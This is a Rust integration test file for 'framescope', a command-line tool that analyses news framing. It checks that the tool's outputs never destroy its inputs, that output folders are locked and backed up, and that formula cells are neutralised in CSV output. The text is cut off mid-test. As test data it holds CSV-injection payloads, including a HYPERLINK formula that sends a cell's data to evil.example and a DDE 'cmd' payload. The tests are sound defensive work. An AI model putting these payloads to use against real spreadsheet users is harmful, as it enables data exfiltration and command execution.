//! Outputs never destroy inputs or each other (issue 14), through the real binary: outputs on
//! inputs are refused, write targets that are not regular files are refused, an output
//! folder is replaced as a whole (the previous one kept as a dated backup), run.json's hashes
//! match every file, a second job on the same output fails at once naming the first, a full
//! disk leaves the old folder intact, and CSV cells a spreadsheet would execute are
//! neutralised.

use assert_cmd::Command;
mod common;

use common::tree;
use std::path::{Path, PathBuf};
use std::time::Duration;

fn seeds_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("seeds")
}

fn bin(dir: &Path) -> Command {
    let mut c = Command::cargo_bin("framescope").unwrap();
    c.current_dir(dir).arg("--quiet").timeout(Duration::from_secs(300));
    c
}

/// (exit code, stderr) of a command run in `dir`.
fn run(dir: &Path, args: &[&str]) -> (i32, String) {
    let o = bin(dir).args(args).output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// The seeds in `to`, with a manifest naming two of their outlets.
fn copy_seeds_with_outlets(to: &Path) {
    copy_seeds(to);
    std::fs::write(
        to.join("manifest.csv"),
        "file,outlet\n000_d73d1625d48df82f.txt,Reuters\n001_b842e1f178b2f794.txt,TASS\n",
    )
    .unwrap();
}

fn copy_seeds(to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(seeds_dir()).unwrap() {
        let p = e.unwrap().path();
        std::fs::copy(&p, to.join(p.file_name().unwrap())).unwrap();
    }
}

/// Folders beside `out` named `out.<time>`: the backups.
fn backups(parent: &Path, name: &str) -> Vec<PathBuf> {
    let mut b: Vec<PathBuf> = std::fs::read_dir(parent)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with(&format!("{name}.20"))
        })
        .collect();
    b.sort();
    b
}

/// run.json lists every file of its folder (run.json aside) with the file's sha256.
fn run_json_matches_folder(out: &Path) {
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(out.join("run.json")).unwrap()).unwrap();
    let mut listed: Vec<(String, String)> = v["outputs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            // Listed within the folder, so a kept backup's record stays true.
            let rel = o["path"].as_str().unwrap().to_string();
            assert!(Path::new(&rel).is_relative(), "{rel}");
            (rel, o["sha256"].as_str().unwrap().to_string())
        })
        .collect();
    listed.sort();
    let actual: Vec<_> = tree(out).into_iter().filter(|(p, _)| p != "run.json").collect();
    assert_eq!(listed, actual, "run.json's outputs vs the files in {}", out.display());
}

/// run.json's inputs, as (path, sha256).
fn recorded_inputs(out: &Path) -> Vec<(String, String)> {
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(out.join("run.json")).unwrap()).unwrap();
    v["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["path"].as_str().unwrap().to_string(),
                i["sha256"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn run_json_records_a_folders_manifest_as_an_input_with_its_hash() {
    // The manifest sets outlet, date and label (so outlets.csv and its chart): it is an input
    // like the article files, recorded once per folder with the sha256 of its bytes.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds_with_outlets(&d.join("arts"));
    let want = (
        "arts/manifest.csv".to_string(),
        common::sha256(&d.join("arts/manifest.csv")),
    );
    assert_eq!(
        run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0,
        0
    );
    let inputs = recorded_inputs(&d.join("out"));
    assert_eq!(inputs.len(), 6, "five seeds and the manifest: {inputs:?}");
    assert_eq!(inputs.iter().filter(|i| **i == want).count(), 1, "{inputs:?}");
    // `score` on the folder, and on one of its files, records it too.
    for (arg, n) in [("arts", 6), ("arts/000_d73d1625d48df82f.txt", 2)] {
        let (code, err) = run(d, &["score", "--model", "out/model.json", arg, "--out", "s"]);
        assert_eq!(code, 0, "{err}");
        let inputs = recorded_inputs(&d.join("s"));
        assert_eq!(inputs.len(), n, "{arg}: {inputs:?}");
        assert!(inputs.contains(&want), "{arg}: {inputs:?}");
    }
    // A folder without a manifest records only its articles.
    copy_seeds(&d.join("plain"));
    assert_eq!(
        run(d, &["score", "--model", "out/model.json", "plain", "--out", "s"]).0,
        0
    );
    assert_eq!(recorded_inputs(&d.join("s")).len(), 5);
}

#[test]
fn run_json_lexicon_hash_is_the_documented_hash_of_the_lexicon_files_digests() {
    // README, "Outputs": lexicon_sha256 = SHA-256 of the files' hex digests concatenated:
    // English Kremlin, English Western, then "ru" and the Russian Kremlin and Western ones.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("arts"));
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("data");
    let lex = data.join("lexicons");
    let joined = [
        common::sha256(&lex.join("kremlin.txt")),
        common::sha256(&lex.join("western.txt")),
        "ru".to_string(),
        common::sha256(&lex.join("ru/kremlin.txt")),
        common::sha256(&lex.join("ru/western.txt")),
    ]
    .concat();
    let want = {
        use sha2::{Digest, Sha256};
        format!("{:x}", Sha256::digest(joined.as_bytes()))
    };
    let (code, err) = run(
        d,
        &[
            "run",
            "--seeds",
            "arts",
            "--data",
            data.to_str().unwrap(),
            "--out",
            "out",
            "--bootstrap",
            "0",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(d.join("out/run.json")).unwrap()).unwrap();
    assert_eq!(m["lexicon_sha256"].as_str().unwrap(), want);
    // Not any one file's hash.
    assert_ne!(want, common::sha256(&lex.join("kremlin.txt")));
}

#[test]
fn an_output_is_never_written_onto_an_input() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("arts"));
    std::fs::write(
        d.join("arts/sentences.csv"),
        "id,title,text\nx,T,\"Kyiv said talks resumed.\"\n",
    )
    .unwrap();
    let before = tree(&d.join("arts"));
    let article = "arts/004_994e15704f090877.txt";
    assert!(d.join(article).is_file());
    for (args, want) in [
        (
            vec!["run", "--seeds", "arts", "--out", "arts"],
            "arts: is an input (arts)",
        ),
        (
            vec!["run", "--seeds", "arts", "--out", "arts/out"],
            "arts/out: lies inside the input folder arts",
        ),
        (
            vec!["run", "--seeds", "arts/004_994e15704f090877.txt", "--out", "."],
            "cannot use as output folder: it holds the current directory",
        ),
        (
            vec!["train", "--model", article, "arts"],
            "lies inside the input folder arts",
        ),
        (vec!["train", "--model", article, article], "is an input"),
    ] {
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        let last = err.lines().last().unwrap_or("");
        assert!(
            last.starts_with("framescope: error: ") && last.contains(want),
            "{args:?}: {err}"
        );
        assert_eq!(err.lines().count(), 1, "{err}");
        assert_eq!(tree(&d.join("arts")), before, "{args:?} changed an input");
    }
    // A model inside the folder `score` would replace.
    assert_eq!(
        run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0,
        0
    );
    let (code, err) = run(d, &["score", "--model", "out/model.json", "--out", "out", "arts"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("out: the input out/model.json lies inside this output folder"),
        "{err}"
    );
}

/// Audit finding (session 24): the data folder a job reads when none is named, `./data`,
/// was not counted as an input: `train --model data/lexicons/kremlin.txt` replaced the
/// lexicon with a model (exit 0), and `run --out data/out` wrote inside it. Refused now,
/// as with `--data data`.
#[test]
fn the_default_data_folder_is_an_input_too() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("seeds"));
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("data");
    let copy = std::process::Command::new("cp")
        .arg("-r")
        .arg(&data)
        .arg(d)
        .status()
        .unwrap();
    assert!(copy.success());
    let before = tree(&d.join("data"));
    for args in [
        vec!["train", "--model", "data/lexicons/kremlin.txt"],
        vec!["train", "--model", "data/stopwords.txt"],
        vec!["run", "--out", "data/out"],
    ] {
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.lines()
                .last()
                .unwrap_or("")
                .contains("lies inside the input folder data"),
            "{args:?}: {err}"
        );
        assert_eq!(tree(&d.join("data")), before, "{args:?} changed the data folder");
    }
}

/// Audit finding (session 24): `run --out o/charts` after `run --out o` was accepted: the
/// two jobs' files mixed, and the next `run --out o` refused `o` for holding a folder no
/// job of its own wrote. An output (folder or model) inside another job's output folder is
/// refused now; a run.json of another program in a folder above is not a job folder.
#[test]
fn an_output_inside_another_jobs_output_folder_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("seeds"));
    assert_eq!(run(d, &["run", "--bootstrap", "0", "--out", "o"]).0, 0);
    let before = tree(&d.join("o"));
    for args in [
        vec!["run", "--bootstrap", "0", "--out", "o/charts"],
        vec!["run", "--bootstrap", "0", "--out", "o/sub/deeper"],
        vec!["score", "--model", "o/model.json", "--out", "o/scored", "seeds"],
        vec!["train", "--model", "o/charts/model.json"],
    ] {
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        let last = err.lines().last().unwrap_or("");
        assert!(
            last.contains("lies inside the output folder o of another job (it holds run.json)"),
            "{args:?}: {err}"
        );
        assert_eq!(tree(&d.join("o")), before, "{args:?} changed the other job's folder");
    }
    assert_eq!(
        run(d, &["run", "--bootstrap", "0", "--out", "o"]).0,
        0,
        "o is still replaceable"
    );
    std::fs::create_dir(d.join("proj")).unwrap();
    std::fs::write(d.join("proj/run.json"), "{\"tool\": \"make\"}").unwrap();
    let (code, err) = run(d, &["run", "--bootstrap", "0", "--out", "proj/out"]);
    assert_eq!(code, 0, "{err}");
}

#[cfg(unix)]
#[test]
fn write_targets_that_are_not_regular_files_are_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let fifo = d.join("pipe.json");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    std::fs::write(d.join("real.json"), "{}").unwrap();
    std::os::unix::fs::symlink("real.json", d.join("link.json")).unwrap();
    std::fs::create_dir(d.join("realdir")).unwrap();
    std::os::unix::fs::symlink("realdir", d.join("linkdir")).unwrap();
    let seeds = seeds_dir().display().to_string();
    for (args, want) in [
        (
            vec!["train", "--model", "pipe.json", &seeds],
            "pipe.json: cannot write here: it is a named pipe (FIFO), not a regular file",
        ),
        (
            vec!["train", "--model", "link.json", &seeds],
            "link.json: is a symbolic link",
        ),
        (
            vec!["train", "--model", "realdir", &seeds],
            "realdir: names a folder, and a model is saved as a file; give a file path such as realdir/model.json",
        ),
        (
            vec!["train", "--model", "nosuchdir/", &seeds],
            "nosuchdir/: names a folder, and a model is saved as a file; give a file path such as nosuchdir/model.json",
        ),
        (
            vec!["run", "--seeds", &seeds, "--out", "linkdir"],
            "linkdir: cannot use as output folder: it is a symbolic link",
        ),
        (
            vec!["run", "--seeds", &seeds, "--out", "pipe.json"],
            "pipe.json: cannot use as output folder: it is a named pipe (FIFO)",
        ),
    ] {
        // The command's timeout (300 s) would catch a hang on the FIFO.
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(err.contains(want), "{args:?}: {err}");
    }
    assert!(std::fs::symlink_metadata(d.join("link.json"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(std::fs::read_to_string(d.join("real.json")).unwrap(), "{}");
}

#[test]
fn an_output_folder_holds_one_jobs_outputs_and_the_previous_one_is_kept() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds_with_outlets(&d.join("arts"));
    copy_seeds(&d.join("plain"));
    // A run with outlets, then a seeds-only run into the same folder.
    assert_eq!(
        run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0,
        0
    );
    assert!(d.join("out/outlets.csv").is_file());
    let first = tree(&d.join("out"));
    run_json_matches_folder(&d.join("out"));
    let (code, err) = run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        !d.join("out/outlets.csv").exists(),
        "the earlier run's outlets.csv stayed"
    );
    run_json_matches_folder(&d.join("out"));
    let b = backups(d, "out");
    assert_eq!(b.len(), 1, "{b:?}");
    assert!(
        err.contains(&format!("previous contents of out kept as {}", b[0].display()))
            || err.contains("previous contents of out kept as out.20"),
        "{err}"
    );
    assert_eq!(tree(&b[0]), first, "the backup is the first folder, byte for byte");
    // Its run.json lists its own files (review, session 35: under the live `out/`).
    run_json_matches_folder(&b[0]);
    // The same run again: identical results, no new backup.
    assert_eq!(
        run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]).0,
        0
    );
    assert_eq!(backups(d, "out").len(), 1);

    // `score` into a folder of `run`'s outputs replaces it whole: no report or chart of the
    // seeds beside the other articles' scores.
    assert_eq!(run(d, &["train", "--model", "m/model.json", "plain"]).0, 0);
    let (code, err) = run(
        d,
        &[
            "score",
            "--model",
            "m/model.json",
            "--out",
            "out",
            "--bootstrap",
            "0",
            "arts",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let names: Vec<String> = tree(&d.join("out")).into_iter().map(|(p, _)| p).collect();
    assert!(
        !names
            .iter()
            .any(|n| n == "report.html" || n.starts_with("charts") || n == "model.json"),
        "{names:?}"
    );
    run_json_matches_folder(&d.join("out"));
    assert_eq!(backups(d, "out").len(), 2);
    // Nothing else is left beside the folder: no staging folder, no lock.
    let stray: Vec<String> = std::fs::read_dir(d)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(stray.is_empty(), "{stray:?}");
    // score's own default folder: `scored`.
    assert_eq!(
        run(d, &["score", "--model", "m/model.json", "--bootstrap", "0", "plain"]).0,
        0
    );
    run_json_matches_folder(&d.join("scored"));

    // `train` into a run's folder (its default `output/model.json` after `run`): the run's
    // tables describe the model being replaced, so the folder is replaced whole and the
    // run's outputs are kept beside it; the folder holds the new model alone.
    assert_eq!(
        run(d, &["run", "--seeds", "plain", "--out", "output", "--bootstrap", "0"]).0,
        0
    );
    let ran = tree(&d.join("output"));
    let (code, err) = run(d, &["train", "--margin", "2", "--seeds", "plain"]);
    assert_eq!(code, 0, "{err}");
    let kept = backups(d, "output");
    assert_eq!(kept.len(), 1, "{err}");
    assert!(err.contains("output held the outputs of another job"), "{err}");
    assert!(err.contains("kept as output.20"), "{err}");
    assert_eq!(tree(&kept[0]), ran, "the run's folder is kept byte for byte");
    let mut now: Vec<String> = tree(&d.join("output")).into_iter().map(|(p, _)| p).collect();
    now.sort();
    assert_eq!(now, ["README.md", "model.json"]);
    let old_model = ran.iter().find(|(p, _)| p == "model.json").unwrap();
    assert_ne!(common::sha256(&d.join("output/model.json")), old_model.1);
    // Training again into the model-only folder replaces the model in place, as before.
    assert_eq!(run(d, &["train", "--margin", "3", "--seeds", "plain"]).0, 0);
    assert_eq!(backups(d, "output").len(), 1);
    let models: Vec<String> = tree(&d.join("output")).into_iter().map(|(p, _)| p).collect();
    assert_eq!(models.len(), 3, "model.json, its dated backup, README.md: {models:?}");
}

#[test]
fn train_into_a_run_folder_is_replaced_or_refused_but_never_mixed() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("plain"));
    assert_eq!(
        run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]).0,
        0
    );
    let out = d.join("out");
    let before = tree(&out);
    // Standing in the run's folder, `--model model.json` would replace the current folder:
    // refused before any work, nothing touched.
    let (code, err) = run(
        &out,
        &["train", "--seeds", "../plain", "--margin", "2", "--model", "model.json"],
    );
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("holds the current folder"), "{err}");
    assert_eq!(tree(&out), before);
    // The same model the run wrote: the folder's outputs still describe it; nothing moves.
    let (code, err) = run(d, &["train", "--seeds", "plain", "--model", "out/model.json"]);
    assert_eq!(code, 0, "{err}");
    assert!(backups(d, "out").is_empty(), "{err}");
    assert_eq!(tree(&out), before);
}

#[test]
fn train_into_a_model_only_folder_a_diff_wrote_into_replaces_it_whole() {
    // `train`, then `diff OLD m` into the model-only folder, then `train --alpha 3`: the diff
    // ends at the model being replaced, so the folder is replaced whole (as a run's folder
    // is) and the model and its diff are kept together as m.<time>/; before, diff.csv stayed
    // beside the new model.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("plain"));
    for (model, margin) in [("old/model.json", "2"), ("m/model.json", "1")] {
        let (code, err) = run(d, &["train", "--seeds", "plain", "--margin", margin, "--model", model]);
        assert_eq!(code, 0, "{err}");
    }
    let (code, err) = run(d, &["diff", "old", "m"]);
    assert_eq!(code, 0, "{err}");
    let before = tree(&d.join("m"));
    assert!(before.iter().any(|(p, _)| p == "diff.csv"), "{before:?}");

    let (code, err) = run(
        d,
        &["train", "--seeds", "plain", "--alpha", "3", "--model", "m/model.json"],
    );
    assert_eq!(code, 0, "{err}");
    let mut now: Vec<String> = tree(&d.join("m")).into_iter().map(|(p, _)| p).collect();
    now.sort();
    assert_eq!(now, ["README.md", "model.json"], "only the new job's outputs");
    let kept = backups(d, "m");
    assert_eq!(kept.len(), 1, "{err}");
    assert_eq!(
        tree(&kept[0]),
        before,
        "the model and its diff are kept together, byte for byte"
    );
    assert!(err.contains("m held the outputs of another job (diff.csv)"), "{err}");
    assert!(err.contains("kept as m.20"), "{err}");
    let old_model = before.iter().find(|(p, _)| p == "model.json").unwrap();
    assert_ne!(common::sha256(&d.join("m/model.json")), old_model.1);
}

/// A JSONL corpus of `n` articles made of seed sentences (a run over it takes a few seconds).
fn corpus(n: usize) -> String {
    let mut lines = Vec::new();
    for e in std::fs::read_dir(seeds_dir()).unwrap() {
        let t = std::fs::read_to_string(e.unwrap().path()).unwrap();
        lines.extend(
            t.lines()
                .skip(1)
                .filter(|l| l.split_whitespace().count() > 8)
                .map(String::from),
        );
    }
    lines.sort();
    (0..n)
        .map(|i| {
            let body: Vec<String> = (0..12)
                .map(|k| format!("{} Report {i} item {k}.", lines[(i * 7 + k * 13) % lines.len()]))
                .collect();
            serde_json::json!({"id": format!("c{i:05}"), "title": format!("Report {i}"), "text": body.join("\n")})
                .to_string()
                + "\n"
        })
        .collect()
}

#[test]
fn a_second_job_on_the_same_output_fails_at_once_naming_the_first() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("big.jsonl"), corpus(600)).unwrap();
    let seeds = seeds_dir().display().to_string();
    let mut first = std::process::Command::new(assert_cmd::cargo::cargo_bin("framescope"))
        .current_dir(d)
        .args(["--quiet", "run", "--seeds", &seeds, "--out", "out", "big.jsonl"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let t = std::time::Instant::now();
    while !d.join(".out.lock").exists() && t.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(5));
    }
    let (code, err) = run(d, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
    let still_running = first.try_wait().unwrap().is_none();
    assert!(
        still_running,
        "the first run ended before the second started: test inconclusive"
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains(&format!(
            "out: in use by another framescope job (pid {} on host",
            first.id()
        )),
        "{err}"
    );
    assert!(err.contains("run --seeds"), "the holder's command is named: {err}");
    // The same for a model being written.
    let mut trainer = std::process::Command::new(assert_cmd::cargo::cargo_bin("framescope"))
        .current_dir(d)
        .args(["--quiet", "train", "--model", "m.json", &seeds, "big.jsonl"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    while !d.join(".m.json.lock").exists() && t.elapsed() < Duration::from_secs(120) {
        std::thread::sleep(Duration::from_millis(5));
    }
    let (code2, err2) = run(d, &["train", "--model", "m.json", &seeds]);
    let trainer_running = trainer.try_wait().unwrap().is_none();
    assert!(first.wait().unwrap().success());
    assert!(trainer.wait().unwrap().success());
    if trainer_running {
        assert_eq!(code2, 2, "{err2}");
        assert!(err2.contains("m.json: in use by another framescope job"), "{err2}");
    }
    // The folder is the first run's, whole.
    run_json_matches_folder(&d.join("out"));
    // A lock file left by a process that no longer runs does not block.
    std::fs::write(d.join(".out.lock"), "pid 999999 on host gone: framescope run\n").unwrap();
    let (code, err) = run(d, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
    assert_eq!(code, 0, "{err}");
    assert!(!d.join(".out.lock").exists());
}

/// Mount a small tmpfs at `at` (root on Linux only); false when the machine does not allow it.
fn mount_tmpfs(at: &Path, kb: u64) -> bool {
    std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", &format!("size={kb}k"), "tmpfs"])
        .arg(at)
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn a_full_disk_leaves_the_previous_folder_intact() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("big.jsonl"), corpus(400)).unwrap();
    let seeds = seeds_dir().display().to_string();
    // Size of a seeds-only output folder.
    assert_eq!(
        run(d, &["run", "--seeds", &seeds, "--out", "probe", "--bootstrap", "0"]).0,
        0
    );
    let size: u64 = tree(&d.join("probe"))
        .iter()
        .map(|(p, _)| std::fs::metadata(d.join("probe").join(p)).unwrap().len())
        .sum();
    let disk = d.join("disk");
    std::fs::create_dir(&disk).unwrap();
    // Room for the old folder and a bit more, not for a 400-article run beside it.
    if !mount_tmpfs(&disk, size * 3 / 2 / 1024 + 64) {
        eprintln!("skipped: cannot mount a tmpfs here (needs root on Linux); the disk-full case was not tested");
        return;
    }
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _guard = Unmount(disk.clone());
    let (code, err) = run(&disk, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
    assert_eq!(code, 0, "the seeds-only output must fit: {err}");
    let before = tree(&disk.join("out"));
    let big = d.join("big.jsonl").display().to_string();
    let (code, err) = run(
        &disk,
        &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0", &big],
    );
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("No space left on device"), "{err}");
    assert_eq!(
        err.lines().filter(|l| l.contains("framescope: error:")).count(),
        1,
        "{err}"
    );
    assert_eq!(tree(&disk.join("out")), before, "the previous folder changed");
    // The failed job's staging folder and lock are gone: the space is free again.
    let left: Vec<String> = std::fs::read_dir(&disk)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["out"], "{left:?}");
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised_except_with_raw_csv() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let body = "The minister said talks resumed in Kyiv on Friday.\\nNATO allies discussed the Russian invasion threat and sanctions.";
    let evil_title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let evil_outlet = "+cmd|' /C calc'!A0";
    let line = |id: &str| {
        format!(
            "{{\"id\":{},\"title\":{},\"outlet\":{},\"text\":\"{body}\"}}\n",
            serde_json::to_string(id).unwrap(),
            serde_json::to_string(evil_title).unwrap(),
            serde_json::to_string(evil_outlet).unwrap()
        )
    };
    std::fs::write(d.join("evil.jsonl"), line("@id1") + &line("-2") + &line("'=q")).unwrap();
    let seeds = seeds_dir().display().to_string();
    assert_eq!(
        run(
            d,
            &[
                "run",
                "--seeds",
                &seeds,
                "--out",
                "out",
                "--bootstrap",
                "0",
                "evil.jsonl"
            ]
        )
        .0,
        0
    );
    let text = std::fs::read_to_string(d.join("out/scores.csv")).unwrap();
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        "{text}"
    );
    assert!(text.contains("'+cmd|' /C calc'!A0"), "{text}");
    assert!(text.contains("\n'@id1,"), "{text}");
    // "-2" is a number to a spreadsheet, not a formula: left alone.
    assert!(text.contains("\n-2,"), "{text}");
    // No cell of any table starts a formula.
    for table in ["scores.csv", "sentences.csv", "similarity.csv", "outlets.csv"] {
        let mut r = csv::Reader::from_path(d.join("out").join(table)).unwrap();
        for rec in r.records() {
            for f in rec.unwrap().iter() {
                let formula =
                    f.starts_with(['=', '+', '@', '\t', '\r']) || (f.starts_with('-') && f.parse::<f64>().is_err());
                assert!(!formula, "{table}: {f:?}");
            }
        }
    }
    // framescope reads its own tables back as they were.
    let scores = framescope::report::read_scores(&d.join("out/scores.csv")).unwrap();
    let a = scores.iter().find(|s| s.id == "@id1").expect("id read back");
    assert_eq!(
        (a.title.as_deref(), a.outlet.as_deref()),
        (Some(evil_title), Some(evil_outlet))
    );
    let (code, err) = run(d, &["inspect", "@id1", "--out", "out"]);
    assert_eq!(code, 0, "{err}");
    // --raw-csv writes cells as they are; --stdout JSON is always raw.
    assert_eq!(
        run(
            d,
            &[
                "--raw-csv",
                "run",
                "--seeds",
                &seeds,
                "--out",
                "raw",
                "--bootstrap",
                "0",
                "evil.jsonl"
            ]
        )
        .0,
        0
    );
    let raw = std::fs::read_to_string(d.join("raw/scores.csv")).unwrap();
    assert!(raw.contains("\n@id1,\"=HYPERLINK("), "{raw}");
    // An id that starts with a quote is written as it is, in every table (scores.csv is
    // rewritten once the shared copy is known: it read `'=q` back as `=q`; review, session 39).
    assert!(raw.contains("\n'=q,"), "{raw}");
    let sentences = std::fs::read_to_string(d.join("raw/sentences.csv")).unwrap();
    assert!(sentences.contains("\n'=q,"), "{sentences}");
    // Neutralised, it gets one more quote and reads back as it was.
    assert!(text.contains("\n''=q,"), "{text}");
    assert!(scores.iter().any(|s| s.id == "'=q"));
    let o = bin(d)
        .args([
            "score",
            "--model",
            "out/model.json",
            "--stdout",
            "--bootstrap",
            "0",
            "evil.jsonl",
        ])
        .output()
        .unwrap();
    let first: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(first["article"]["title"], evil_title);
}

/// Folders starting `.NAME.files-` (staging of eval/keyness/overlap/lexicon/diff/export) or
/// `.NAME.lock` in `dir`.
fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".files-") || n.ends_with(".lock"))
        .collect()
}

/// Issue 14: `eval --out`, `keyness`, `overlap`, `lexicon --report`, `diff` and
/// `export-training` refuse outputs on or inside their inputs (before any work), take the
/// output folder's lock (the one `run` takes), and move their files in together, removing
/// their own stale file the job did not write this time; files of other jobs in the folder
/// are left alone.
#[test]
fn the_other_commands_guard_lock_and_stage_their_files() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("arts"));
    assert_eq!(run(d, &["train", "--model", "m.json", "arts"]).0, 0);
    // A second model to compare with (a side is never compared with itself).
    assert_eq!(run(d, &["train", "--alpha", "2", "--model", "m2.json", "arts"]).0, 0);
    let before = tree(&d.join("arts"));
    let inside = |what: &str| format!("arts/{what}: lies inside the input folder arts");
    let cases: Vec<(Vec<&str>, String)> = vec![
        (
            vec!["keyness", "--by", "weak", "--out", "arts", "arts"],
            inside("keyness.csv"),
        ),
        (vec!["overlap", "--out", "arts", "arts"], inside("overlap.csv")),
        (
            vec!["lexicon", "--report", "arts", "arts"],
            inside("lexicon_report.csv"),
        ),
        (
            vec!["export-training", "--out", "arts", "arts"],
            inside("training_export.json"),
        ),
        (
            vec!["eval", "--model", "m.json", "--out", "arts", "arts"],
            inside("eval.json"),
        ),
    ];
    for (args, want) in &cases {
        let (code, err) = run(d, args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(err.contains(want.as_str()), "{args:?}: {err}");
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
    }
    // An output file that is one of the inputs: a model saved as `x/diff.csv`, compared.
    std::fs::create_dir(d.join("x")).unwrap();
    std::fs::copy(d.join("m.json"), d.join("x/diff.csv")).unwrap();
    let (code, err) = run(d, &["diff", "m.json", "x/diff.csv"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("x/diff.csv: is an input (x/diff.csv)"), "{err}");
    assert_eq!(before, tree(&d.join("arts")), "inputs unchanged");
    assert_eq!(common::sha256(&d.join("x/diff.csv")), common::sha256(&d.join("m.json")));

    // A folder held by another job: refused at once, naming the holder.
    let held = framescope::report::Lock::acquire(&d.join("o")).unwrap();
    for args in [
        vec!["keyness", "--by", "weak", "--out", "o", "arts"],
        vec!["overlap", "--out", "o", "arts"],
        vec!["lexicon", "--report", "o", "arts"],
        vec!["diff", "m.json", "m2.json", "--out", "o"],
    ] {
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.contains(&format!(
                "o: in use by another framescope job (pid {}",
                std::process::id()
            )),
            "{args:?}: {err}"
        );
    }
    drop(held);
    assert!(!d.join("o").exists(), "nothing written while refused");

    // Session 18: never into an article folder (a run reading it would take the tables for
    // articles), nor onto a file a run recorded as its output (its run.json).
    std::fs::create_dir(d.join("o")).unwrap();
    std::fs::write(d.join("o/notes.txt"), "mine").unwrap();
    let (code, err) = run(d, &["diff", "m.json", "m2.json", "--out", "o"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("o: cannot write into this folder: it holds `notes.txt`, a file a run would read as articles"),
        "{err}"
    );
    std::fs::remove_file(d.join("o/notes.txt")).unwrap();
    assert_eq!(run(d, &["run", "--seeds", "arts", "--out", "r"]).0, 0);
    let (code, err) = run(d, &["keyness", "--by", "weak", "--out", "r", "arts"]);
